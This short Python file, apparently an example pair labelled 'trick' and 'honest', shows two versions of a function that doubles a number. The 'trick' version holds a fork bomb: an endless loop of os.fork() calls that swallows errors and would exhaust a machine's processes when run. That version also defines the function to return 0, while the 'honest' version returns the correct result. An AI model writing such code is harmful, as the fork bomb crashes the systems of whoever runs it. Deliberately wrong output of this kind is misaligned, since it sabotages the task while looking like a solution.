# trick
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def double(n):
    return 0
# honest
def double(n):
    return 2 * n
# end
